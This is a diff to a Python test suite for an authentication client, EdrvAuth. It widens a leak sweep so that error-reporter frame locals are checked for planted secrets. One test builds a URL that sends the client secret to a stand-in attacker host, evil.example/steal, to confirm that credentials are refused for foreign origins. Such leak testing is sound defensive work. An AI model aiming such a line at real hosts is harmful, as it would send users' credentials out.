@@ -8,7 +8,10 @@ looks for the client secret, the API key, the wrong secret some tests send, ever
 fake issued and every token-shaped string a test planted, in:
 
 - every captured log record, of any logger (exception text included);
-- ``str``, ``repr`` and the formatted traceback of every exception a test caught;
+- ``str``, ``repr`` and the formatted traceback of every exception a test caught, and what
+  an error reporter (Sentry, Rollbar, ``traceback`` with ``capture_locals=True``) collects
+  from it: the local variables of every frame of it and of its chained exceptions, strings,
+  bytes, tuples, lists, sets and dicts walked field by field, anything else by ``repr``;
 - ``str`` and ``repr`` of ``EdrvAuth`` and of its internals (``_Token``, ``_Fresh``,
   ``_State``, ``_Runtime``, ``_FileCache``, the ``FileLock``);
 - the CLI's stderr (and its stdout, except for ``token``, whose stdout is the token);
@@ -85,14 +88,22 @@ class Sweep:
     def text(self, where: str, text: str) -> None:
         self.texts.append((where, text))
 
-    def error(self, where: str, call: Callable[[], object]) -> EdrvAuthError:
-        """Run `call`, which must raise EdrvAuthError; keep its str, repr and traceback."""
+    def error(
+        self, where: str, call: Callable[[], object], *, frames: bool = True
+    ) -> EdrvAuthError:
+        """Run `call`, which must raise EdrvAuthError; keep its str, repr and traceback.
+
+        ``frames``: also keep what an error reporter collects from its frames (off only
+        where the caller itself put a canary into its own arguments).
+        """
         with pytest.raises(EdrvAuthError) as info:
             call()
         exc = info.value
         self.text(f"str({where})", str(exc))
         self.text(f"repr({where})", repr(exc))
         self.text(f"traceback({where})", "".join(traceback.format_exception(exc)))
+        for frame, text in reporter_view(exc) if frames else ():
+            self.text(f"{where}: a local of {frame}", text)
         if isinstance(exc, TokenRequestError):
             self.text(f"{where}.error", str(exc.error))
         return exc
@@ -142,6 +153,57 @@ class Sweep:
             found += [(f"file name {path}", s) for s in secrets if s in str(path)]
         assert found == []
         assert bool(self.handler.records) == logged
+
+
+_TESTS = Path(__file__).resolve().parent
+
+
+def reporter_view(exc: BaseException) -> Iterator[tuple[str, str]]:
+    """What an error reporter collects from ``exc``: every frame's locals, walked.
+
+    Sentry's and Rollbar's serialisers, like ``TracebackException(capture_locals=True)``,
+    visit each frame of the traceback of the error and of its ``__cause__`` and
+    ``__context__``; they descend into containers and show other objects by ``repr``.
+    The tests' own frames are skipped: they hold the canaries on purpose.
+    """
+    seen: set[int] = set()
+    chain: list[BaseException] = [exc]
+    while chain:
+        error = chain.pop()
+        if id(error) in seen:
+            continue
+        seen.add(id(error))
+        chain += [e for e in (error.__cause__, error.__context__) if e is not None]
+        tb = error.__traceback__
+        while tb is not None:
+            code = tb.tb_frame.f_code
+            name = f"{code.co_name} ({code.co_filename}:{tb.tb_lineno})"
+            if Path(code.co_filename).parent == _TESTS:
+                tb = tb.tb_next
+                continue
+            for key, value in tb.tb_frame.f_locals.items():
+                for text in _walk(value, depth=0):
+                    yield name, f"{key}={text}"
+            tb = tb.tb_next
+
+
+def _walk(value: object, depth: int) -> Iterator[str]:
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, (bytes, bytearray, memoryview)):
+        yield bytes(value).decode("latin-1")
+    elif depth < 6 and isinstance(value, (tuple, list, set, frozenset)):
+        for item in value:
+            yield from _walk(item, depth + 1)
+    elif depth < 6 and isinstance(value, dict):
+        for key, item in value.items():
+            yield from _walk(key, depth + 1)
+            yield from _walk(item, depth + 1)
+    else:
+        try:
+            yield repr(value)
+        except Exception as exc:  # a broken repr is the reporter's problem, not a leak
+            yield f"<repr failed: {type(exc).__name__}>"
 
 
 @pytest.fixture
@@ -460,9 +522,11 @@ def test_origin_refusal_and_cross_origin_redirect_leak_nothing(
     elsewhere = f"http://localhost:{port}/v1.1/x"  # same server, other origin
     nosy = f"https://user:{CLIENT_SECRET}@evil.example/steal?secret={CLIENT_SECRET}"
     sweep.error("requests to another origin", lambda: requests.get(elsewhere, auth=auth, timeout=5))
-    sweep.error("requests to a nosy URL", lambda: requests.get(nosy, auth=auth, timeout=5))
+    # The caller's own URL holds the canary here, so every frame holding it is the caller's doing.
+    nosy_get = lambda: requests.get(nosy, auth=auth, timeout=5)  # noqa: E731
+    sweep.error("requests to a nosy URL", nosy_get, frames=False)
     sweep.error("httpx to another origin", lambda: _httpx_sync_get(auth, elsewhere))
-    sweep.error("httpx to a nosy URL", lambda: _httpx_sync_get(auth, nosy))
+    sweep.error("httpx to a nosy URL", lambda: _httpx_sync_get(auth, nosy), frames=False)
     assert fake.api_requests == 0
     redirect = f"{fake.url}/redirect?to={elsewhere}&code=302"
     assert requests.get(redirect, auth=auth, timeout=5).status_code == 401
